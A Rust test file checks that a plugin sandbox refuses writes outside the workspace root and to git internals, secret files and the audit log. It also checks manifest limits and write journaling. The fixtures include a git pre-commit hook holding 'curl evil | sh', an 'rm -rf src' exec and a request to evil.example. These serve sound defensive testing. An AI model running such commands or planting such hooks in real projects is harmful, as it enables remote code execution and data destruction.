//! Writes: outside the root, policy forbids, manifest bounds, patches, journal.

use super::*;

#[tokio::test]
async fn writes_outside_the_root_are_refused_and_change_nothing() {
    let lab = Lab::new();
    refused(
        &lab,
        json!({"op": "write", "path": "../escape.txt", "content": "x"}),
        "Denied",
        "",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": "/tmp/ralex-escape.txt", "content": "x"}),
        "Denied",
        "",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": "src/linkout/x.txt", "content": "x"}),
        "Denied",
        "symlink",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": "src/hard.txt", "content": "x"}),
        "Denied",
        "link",
    )
    .await;
    refused(
        &lab,
        json!({"op": "create", "path": "src/linkout/new.txt", "content": "x"}),
        "Denied",
        "symlink",
    )
    .await;
    assert!(!Path::new("/tmp/ralex-escape.txt").exists());
}

#[tokio::test]
async fn policy_forbids_git_internals_secrets_and_the_audit_trail() {
    let lab = Lab::new();
    refused(&lab, json!({"op": "write", "path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"}), "Denied", "no-write-git").await;
    refused(
        &lab,
        json!({"op": "write", "path": ".git/config", "content": "x"}),
        "Denied",
        "no-write-git",
    )
    .await;
    refused(
        &lab,
        json!({"op": "delete", "path": ".git/HEAD"}),
        "Denied",
        "no-write-git",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": ".env", "content": "API_KEY=mine"}),
        "Denied",
        "no-write-secrets",
    )
    .await;
    refused(
        &lab,
        json!({"op": "create", "path": "server.pem", "content": "x"}),
        "Denied",
        "no-write-secrets",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": ".ralex/audit.log", "content": "x"}),
        "Denied",
        "no-write-audit",
    )
    .await;
    refused(
        &lab,
        json!({"op": "move", "path": "src/app.py", "to": ".env.local"}),
        "Denied",
        "no-write-secrets",
    )
    .await;
    let audit = lab.last_audit();
    assert_eq!(audit.actor, "plugin:intruder");
    assert_eq!(audit.decision, "deny");
    assert_eq!(audit.rule, "no-write-secrets");
}

#[tokio::test]
async fn the_manifest_bounds_what_the_policy_can_grant() {
    let lab = Lab::new();
    refused(
        &lab,
        json!({"op": "write", "path": "other/x.txt", "content": "x"}),
        "Denied",
        "no `workspace.write` glob",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "rm", "args": ["-rf", "src"]}),
        "Denied",
        "its manifest allows only",
    )
    .await;
    refused(
        &lab,
        json!({"op": "http", "url": "http://evil.example/"}),
        "Denied",
        "not in this plugin's http grant",
    )
    .await;
    refused(&lab, json!({"op": "kv"}), "Denied", "kv = true").await;
    assert_eq!(lab.last_audit().rule, "manifest");
}

#[tokio::test]
async fn a_patch_touching_a_forbidden_file_changes_no_file() {
    let lab = Lab::new();
    let patch = "--- a/src/app.py\n+++ b/src/app.py\n@@ -1,2 +1,2 @@\n def app():\n-    return 1\n+    return 2\n\
--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-x\n+y\n";
    refused(
        &lab,
        json!({"op": "patch", "patch": patch}),
        "Denied",
        "no-write-git",
    )
    .await;
}

#[tokio::test]
async fn allowed_writes_are_journaled_and_audited() {
    let lab = Lab::new();
    let out = lab.call(json!({"op": "replace", "path": "src/app.py", "search": "return 1", "replace": "return 2"})).await;
    assert_eq!(out, json!({"ok": null}));
    assert_eq!(
        std::fs::read_to_string(lab.root.join("src/app.py")).unwrap(),
        "def app():\n    return 2\n"
    );
    let changes = lab.journal.changes();
    assert_eq!(changes.len(), 1);
    assert_eq!(changes[0].path, "src/app.py");
    let audit = lab.last_audit();
    assert_eq!(
        (audit.action.as_str(), audit.decision.as_str()),
        ("workspace:write", "allow")
    );
    assert_eq!(audit.rule, "grants/intruder.cedar:1");
    assert!(
        !audit.detail.contains("return 2"),
        "arguments are digested, not stored"
    );
    assert_eq!(audit.args_digest.len(), 64);
}

#[tokio::test]
async fn writes_without_a_journal_are_refused() {
    let lab = Lab::new();
    let context = CallContext {
        journal: None,
        ..lab.context.clone()
    };
    let before = lab.tree();
    let out = lab
        .call_with(
            context,
            json!({"op": "create", "path": "src/new.py", "content": "x"}),
        )
        .await;
    assert_eq!(out["error"]["code"], "Denied", "{out}");
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("could not be undone")
    );
    assert_eq!(before, lab.tree());
}

#[tokio::test]
async fn a_failed_snapshot_hook_refuses_the_first_write() {
    let lab = Lab::new();
    let journal = Arc::new(WriteJournal::with_hook(Box::new(
        || Err("disk full".into()),
    )));
    let context = CallContext {
        journal: Some(journal),
        ..lab.context.clone()
    };
    let before = lab.tree();
    let out = lab
        .call_with(
            context,
            json!({"op": "write", "path": "src/app.py", "content": "x"}),
        )
        .await;
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("undo snapshot"),
        "{out}"
    );
    assert_eq!(before, lab.tree());
}
